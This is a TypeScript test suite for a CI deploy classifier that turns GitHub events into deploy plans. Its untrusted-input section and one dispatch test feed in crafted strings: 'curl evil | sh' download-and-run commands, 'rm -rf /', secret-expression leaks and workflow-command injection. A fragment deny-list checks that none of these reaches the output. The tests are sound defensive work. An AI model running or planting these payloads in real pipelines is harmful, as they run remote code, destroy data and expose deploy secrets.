import { describe, expect, it } from 'vitest';
import { parsePolicy } from '../src/analysis';
import { ConfigurationError } from '../src/action';
import { classify, GATE_LIST, parseGateList, type PlanOptions } from '../src/pipeline';
import { dispatchEvent, MERGE_SHA, pullRequestEvent, pushEvent, SHA } from './support/github-events';
import { REASONS, RELEASE_TAG, type GitHubEvent } from '../src/pipeline/event';
import type { Plan } from '../src/pipeline/plan';
import { GATES, PLAN_KINDS } from '../src/pipeline/plan-options';

const options: PlanOptions = {
  mainBranch: 'main',
  hotfixPrefix: 'hotfix/',
  modelMarker: '[train-model]',
  hotfixSkip: ['integration', 'load-test', 'security-scan'],
  imageRepository: 'ghcr.io/org/agent-loop',
};

const push = (ref: string, message?: string | null, extra?: Record<string, unknown>): GitHubEvent => ({
  name: 'push',
  payload: pushEvent(ref, message, extra),
  ref,
  sha: SHA,
});
const pr = (fields: Parameters<typeof pullRequestEvent>[0]): GitHubEvent => ({
  name: 'pull_request',
  payload: pullRequestEvent(fields),
  ref: 'refs/pull/42/merge',
  sha: SHA,
});
const dispatch = (inputs: Record<string, unknown> | null, ref = 'refs/heads/main'): GitHubEvent => ({
  name: 'workflow_dispatch',
  payload: dispatchEvent(inputs, ref),
  ref,
  sha: SHA,
});

const ALL_GATES = [...GATES];

describe('classify: kinds', () => {
  it("push to main: a normal deploy to production with every gate and the procedure's canary", () => {
    expect(classify(push('refs/heads/main'), options)).toEqual<Plan>({
      kind: 'normal',
      environment: 'production',
      deploy: true,
      version: 'sha-0123456',
      imageTag: 'sha-0123456',
      image: 'ghcr.io/org/agent-loop:sha-0123456',
      gates: ['lint', 'typecheck', 'unit', 'integration', 'security-scan', 'load-test'],
      canaryPercent: 10,
      canarySteps: [10],
      canaryDurationSeconds: 300,
      errorThreshold: 0.01,
      latencyP95Ms: 2000,
      policy: expect.any(String) as unknown as string,
      notifyImmediately: false,
      model: false,
      reason: REASONS.pushMain,
    });
  });

  it('push to main without a head commit (a force push of existing commits) is still normal', () => {
    expect(classify(push('refs/heads/main', null), options).kind).toBe('normal');
  });

  it('the model marker in the head commit message makes a model deploy with a ramp', () => {
    const plan = classify(
      push('refs/heads/main', 'Retrain the ranker [train-model]\n\nNew data from November.'),
      options,
    );
    expect(plan).toMatchObject({
      kind: 'model',
      model: true,
      deploy: true,
      environment: 'production',
      canarySteps: [10, 25, 50, 100],
      canaryPercent: 10,
      reason: REASONS.pushMainModel,
    });
    expect(classify(push('refs/heads/main', '[Train-Model] retrain'), options).kind).toBe('model');
  });

  it('only the head commit counts: a marker in an earlier commit of the push does not', () => {
    const event = push('refs/heads/main', 'Fix typo');
    const payload = event.payload as ReturnType<typeof pushEvent>;
    payload.commits.unshift({ ...payload.commits[0]!, message: 'Retrain [train-model]' });
    expect(classify(event, options).kind).toBe('normal');
  });

  it('a release tag (vX.Y.Z, optionally -rc.N) is a release whose version is the tag', () => {
    expect(classify(push('refs/tags/v1.2.3'), options)).toMatchObject({
      kind: 'release',
      version: 'v1.2.3',
      imageTag: 'v1.2.3',
      image: 'ghcr.io/org/agent-loop:v1.2.3',
      deploy: true,
      gates: ALL_GATES,
      reason: REASONS.releaseTag,
    });
    expect(classify(push('refs/tags/v0.10.0-rc.1'), options)).toMatchObject({
      kind: 'release',
      version: 'v0.10.0-rc.1',
    });
  });

  it.each([
    'v1.2',
    '1.2.3',
    'v01.2.3',
    'v1.2.3-beta',
    'v1.2.3-rc.01',
    'v1.2.3-rc',
    'v1.2.3+build.5',
    'v1.2.3;echo',
    'v1.2.3\n',
    'release-1',
    'V1.2.3',
  ])('the tag %j is not a release: gates only', (tag) => {
    expect(classify(push(`refs/tags/${tag}`), options)).toMatchObject({
      kind: 'none',
      deploy: false,
      environment: 'none',
      version: 'sha-0123456',
      reason: REASONS.otherTag,
    });
  });

  it('a deleted branch or tag deploys nothing', () => {
    expect(classify(push('refs/tags/v1.2.3', null, { deleted: true }), options)).toMatchObject({
      kind: 'none',
      reason: REASONS.deletedRef,
    });
    expect(classify(push('refs/heads/main', null, { deleted: true }), options)).toMatchObject({
      kind: 'none',
      reason: REASONS.deletedRef,
    });
  });

  it('push to a hotfix branch: reinforced canary, fewer gates, tighter limits, immediate notification', () => {
    const plan = classify(push('refs/heads/hotfix/login-timeout', 'Fix login timeout [train-model]'), options);
    expect(plan).toMatchObject({
      kind: 'hotfix',
      environment: 'production',
      deploy: true,
      gates: ['lint', 'typecheck', 'unit'],
      canarySteps: [10],
      canaryDurationSeconds: 600,
      errorThreshold: 0.005,
      latencyP95Ms: 1500,
      notifyImmediately: true,
      model: false,
      reason: REASONS.pushHotfix,
    });
  });

  it('the prefix alone is not a hotfix branch', () => {
    expect(classify(push('refs/heads/hotfix/'), options).kind).toBe('none');
    expect(classify(push('refs/heads/hotfixes'), options).kind).toBe('none');
  });

  it('push to a feature branch: gates only, even with the model marker', () => {
    for (const plan of [
      classify(push('refs/heads/feature/planner'), options),
      classify(push('refs/heads/feature/planner', 'Try [train-model]'), options),
    ]) {
      expect(plan).toMatchObject({
        kind: 'none',
        deploy: false,
        environment: 'none',
        gates: ALL_GATES,
        notifyImmediately: false,
        model: false,
        reason: REASONS.otherBranch,
      });
    }
  });

  it('a merged pull request into main is a normal deploy of its merge commit', () => {
    expect(classify(pr({}), options)).toMatchObject({
      kind: 'normal',
      version: `sha-${MERGE_SHA.slice(0, 7)}`,
      reason: REASONS.mergedMain,
    });
  });

  it('a merged pull request with the marker in its title or body is a model deploy', () => {
    expect(classify(pr({ title: 'Retrain ranker [train-model]' }), options)).toMatchObject({
      kind: 'model',
      reason: REASONS.mergedMainModel,
    });
    expect(classify(pr({ body: 'New data.\n\n[train-model]' }), options).kind).toBe('model');
    expect(classify(pr({ body: null }), options).kind).toBe('normal');
  });

  it('a merged pull request from a hotfix branch is a hotfix, marker or not', () => {
    expect(classify(pr({ head: 'hotfix/payment-crash', title: 'Fix crash [train-model]' }), options)).toMatchObject({
      kind: 'hotfix',
      reason: REASONS.mergedHotfix,
      canaryDurationSeconds: 600,
    });
  });

  it('pull requests that are open, closed without merge, or merged elsewhere deploy nothing', () => {
    for (const event of [
      pr({ action: 'opened', merged: false }),
      pr({ action: 'synchronize', merged: false }),
      pr({ action: 'closed', merged: false }),
      pr({ base: 'develop' }),
      pr({ action: 'opened', merged: false, head: 'hotfix/x' }),
    ]) {
      expect(classify(event, options)).toMatchObject({
        kind: 'none',
        deploy: false,
        reason: REASONS.pullRequestOpen,
        version: 'sha-0123456',
      });
    }
  });

  it('workflow_dispatch is normal unless its kind input says otherwise', () => {
    expect(classify(dispatch(null), options)).toMatchObject({ kind: 'normal', reason: REASONS.dispatch });
    expect(classify(dispatch({ kind: '' }), options)).toMatchObject({ kind: 'normal', reason: REASONS.dispatch });
    expect(classify(dispatch({ kind: 'hotfix' }), options)).toMatchObject({
      kind: 'hotfix',
      reason: REASONS.dispatchKind,
      canaryDurationSeconds: 600,
    });
    expect(classify(dispatch({ kind: 'model' }), options)).toMatchObject({
      kind: 'model',
      canarySteps: [10, 25, 50, 100],
    });
    expect(classify(dispatch({ kind: 'none' }), options)).toMatchObject({ kind: 'none', deploy: false });
    expect(classify(dispatch({ kind: 'release' }, 'refs/tags/v2.0.0'), options)).toMatchObject({
      kind: 'release',
      version: 'v2.0.0',
    });
  });

  it('workflow_dispatch refuses an unknown kind without quoting it, and a release away from a release tag', () => {
    expect(() => classify(dispatch({ kind: 'release' }), options)).toThrow(
      /release needs the run to start from a release tag/,
    );
    let message = '';
    try {
      classify(dispatch({ kind: 'hotfix; curl evil | sh' }), options);
    } catch (error) {
      expect(error).toBeInstanceOf(ConfigurationError);
      message = (error as Error).message;
    }
    expect(message).toBe("workflow_dispatch input 'kind': expected one of normal, release, model, hotfix, none");
    expect(() => classify(dispatch({ kind: ['hotfix'] }), options)).toThrow(ConfigurationError);
  });

  it.each(['schedule', 'release', 'issue_comment', 'pull_request_review', 'repository_dispatch', ''])(
    'the event %j deploys nothing',
    (name) => {
      expect(
        classify({ name, payload: pushEvent('refs/heads/main'), ref: 'refs/heads/main', sha: SHA }, options),
      ).toMatchObject({ kind: 'none', reason: REASONS.otherEvent });
    },
  );

  it('follows the options: main branch, hotfix prefix, marker, skipped gates, no image repository', () => {
    const custom: PlanOptions = {
      mainBranch: 'trunk',
      hotfixPrefix: 'fix-',
      modelMarker: '#retrain',
      hotfixSkip: [],
      imageRepository: '',
    };
    expect(classify(push('refs/heads/main'), custom).kind).toBe('none');
    expect(classify(push('refs/heads/trunk'), custom)).toMatchObject({ kind: 'normal', image: '' });
    expect(classify(push('refs/heads/trunk', 'please #RETRAIN'), custom).kind).toBe('model');
    expect(classify(push('refs/heads/fix-crash'), custom)).toMatchObject({ kind: 'hotfix', gates: ALL_GATES });
    expect(classify(pr({ base: 'trunk', head: 'fix-crash' }), custom).kind).toBe('hotfix');
  });

  it('needs GITHUB_SHA to be a 40-hex commit sha; an upper-case one is lower-cased', () => {
    expect(() => classify({ ...push('refs/heads/main'), sha: '' }, options)).toThrow(
      /GITHUB_SHA: expected a 40-character hexadecimal commit sha/,
    );
    expect(() => classify({ ...push('refs/heads/main'), sha: `${SHA.slice(0, 39)}g` }, options)).toThrow(
      ConfigurationError,
    );
    expect(classify({ ...push('refs/heads/main'), sha: SHA.toUpperCase() }, options).version).toBe('sha-0123456');
  });

  it('falls back to GITHUB_SHA when a merged pull request has no usable merge commit', () => {
    const event = pr({});
    (event.payload as { pull_request: { merge_commit_sha: unknown } }).pull_request.merge_commit_sha = 'not-a-sha';
    expect(classify(event, options).version).toBe('sha-0123456');
  });
});

describe('classify: the policy output', () => {
  it.each(PLAN_KINDS)("the %s policy parses and carries the plan's figures", (kind) => {
    const plan = classify(
      kind === 'none'
        ? push('refs/heads/feature/x')
        : dispatch({ kind }, kind === 'release' ? 'refs/tags/v1.0.0' : 'refs/heads/main'),
      options,
    );
    const policy = parsePolicy(plan.policy);
    const rule = (name: string) => policy.rules.find((candidate) => candidate.name === name);
    expect(policy.durationSeconds).toBe(plan.canaryDurationSeconds);
    expect(rule('error-rate')).toMatchObject({
      threshold: plan.errorThreshold,
      kind: 'gate',
      windowSeconds: plan.canaryDurationSeconds,
    });
    expect(rule('latency-p95')).toMatchObject({ threshold: plan.latencyP95Ms, kind: 'gate' });
    expect(rule('error-rate-sustained')).toMatchObject({
      threshold: plan.errorThreshold,
      kind: 'trigger',
      windowSeconds: 30,
      forSeconds: 120,
    });
    // The other default rules stay: memory, health checks, model drift.
    expect(policy.rules.map((candidate) => candidate.name)).toEqual(
      expect.arrayContaining(['health-checks', 'memory', 'model-drift', 'latency-p95-sustained']),
    );
  });

  it('hotfix figures reach the policy', () => {
    const policy = parsePolicy(classify(push('refs/heads/hotfix/x'), options).policy);
    expect(policy.durationSeconds).toBe(600);
    expect(policy.rules.find((rule) => rule.name === 'error-rate')?.threshold).toBe(0.005);
    expect(policy.rules.find((rule) => rule.name === 'latency-p95')?.threshold).toBe(1500);
  });
});

// ------------------------------------------------------------------------------------ untrusted text

const CRAFTED = [
  '[train-model] $(curl evil | sh)',
  '[train-model] `id` ; rm -rf / && echo pwned',
  'Fix ${{ secrets.DEPLOY_SSH_KEY }} [train-model]',
  'Harmless\n::set-output name=kind::release\n::add-mask::sha-0123456\n::error::pwned\n[train-model]',
  'Deploy\r\nkind<<EOF\nrelease\nEOF\n[train-model]',
];
/** Fragments of the crafted texts that must never appear in a plan. */
const FRAGMENTS = [
  'curl',
  'evil',
  'rm -rf',
  '$(',
  '`',
  '${{',
  'secrets',
  '::',
  'set-output',
  'add-mask',
  'pwned',
  'EOF',
  '"',
  ';',
  '\n',
  '\r',
  'id)',
];

/** Every value of the plan is from a fixed vocabulary or matched a strict pattern. */
function expectOnlyTrustedValues(plan: Plan): void {
  expect(PLAN_KINDS).toContain(plan.kind);
  expect(
    plan.version === `sha-${SHA.slice(0, 7)}` ||
      plan.version === `sha-${MERGE_SHA.slice(0, 7)}` ||
      RELEASE_TAG.test(plan.version),
  ).toBe(true);
  expect(Object.values(REASONS)).toContain(plan.reason);
  const values = Object.entries(plan)
    .filter(([key]) => key !== 'policy')
    .map(([, value]) => (Array.isArray(value) ? value.join(',') : String(value)));
  for (const fragment of FRAGMENTS) {
    for (const value of values) expect(value).not.toContain(fragment);
    if (fragment !== '\n') expect(plan.policy).not.toContain(fragment);
  }
}

describe('classify: untrusted messages, titles and branch names', () => {
  it.each(CRAFTED)('a crafted head commit message can only select the model plan: %j', (message) => {
    const plan = classify(push('refs/heads/main', message), options);
    expect(plan.kind).toBe('model');
    expectOnlyTrustedValues(plan);
    expect(plan).toEqual(classify(push('refs/heads/main', '[train-model]'), options));
  });

  it.each(CRAFTED)('a crafted pull request title and body: %j', (text) => {
    const plan = classify(pr({ title: text, body: text }), options);
    expect(plan.kind).toBe('model');
    expectOnlyTrustedValues(plan);
  });

  it.each([
    'hotfix/$(id)',
    'hotfix/";rm -rf /;"',
    'hotfix/${{ secrets.X }}',
    'hotfix/`id`',
    'hotfix/x\n::set-output name=kind::release',
  ])('a crafted hotfix branch %j is a hotfix and nothing more', (branch) => {
    for (const plan of [classify(push(`refs/heads/${branch}`), options), classify(pr({ head: branch }), options)]) {
      expect(plan.kind).toBe('hotfix');
      expectOnlyTrustedValues(plan);
      expect(JSON.stringify(plan)).not.toContain('hotfix/');
    }
  });

  it('a crafted tag is not a release and is not copied', () => {
    for (const tag of [
      'v1.2.3;echo',
      'v1.2.3 $(id)',
      'v1.2.3\n::set-output name=kind::release',
      'v1.2.3${{ secrets.X }}',
    ]) {
      const plan = classify(push(`refs/tags/${tag}`), options);
      expect(plan.kind).toBe('none');
      expectOnlyTrustedValues(plan);
      expect(JSON.stringify(plan)).not.toContain('v1.2.3');
    }
  });

  // A guard against a pattern that backtracks (quadratic on 1 MB: minutes), not a speed figure:
  // the bound is 25 times what a loaded machine takes, so it never fails on load alone.
  it('a 1 MB message is classified without backtracking and not copied', () => {
    const message = `${'x'.repeat(1024 * 1024)} [train-model]`;
    const started = performance.now();
    const plan = classify(push('refs/heads/main', message), options);
    expect(performance.now() - started).toBeLessThan(10_000);
    expect(plan.kind).toBe('model');
    expect(JSON.stringify(plan).length).toBeLessThan(2000);
  });

  it('payload fields of the wrong type are ignored, never trusted', () => {
    const odd = (payload: unknown, name = 'push', ref = 'refs/heads/main') =>
      classify({ name, payload, ref, sha: SHA }, options);
    expect(odd({ head_commit: { message: { toString: '[train-model]' } } }).kind).toBe('normal');
    expect(odd({ head_commit: ['[train-model]'] }).kind).toBe('normal');
    expect(odd(null).kind).toBe('normal');
    expect(odd('[train-model]').kind).toBe('normal');
    expect(
      odd(
        { action: 'closed', pull_request: { merged: 'true', base: { ref: 'main' } } },
        'pull_request',
        'refs/pull/1/merge',
      ).kind,
    ).toBe('none');
    expect(odd({ action: 'closed', pull_request: 'merged' }, 'pull_request', 'refs/pull/1/merge').kind).toBe('none');
    expect(
      odd(
        JSON.parse(
          '{"action":"closed","pull_request":{"merged":true,"base":{"ref":"main"},"__proto__":{"title":"[train-model]"}}}',
        ),
        'pull_request',
        'refs/pull/1/merge',
      ).kind,
    ).toBe('normal');
  });
});

describe('gate lists', () => {
  it('accepts comma-separated gate names or none', () => {
    for (const good of ['integration,load-test,security-scan', 'lint', 'unit , integration', 'none'])
      expect(GATE_LIST.test(good)).toBe(true);
    for (const bad of ['', 'integration,', 'bogus', 'integration,bogus', 'lint;rm', 'none,lint', 'Lint'])
      expect(GATE_LIST.test(bad)).toBe(false);
    expect(parseGateList('unit , integration')).toEqual(['unit', 'integration']);
    expect(parseGateList('none')).toEqual([]);
  });
});
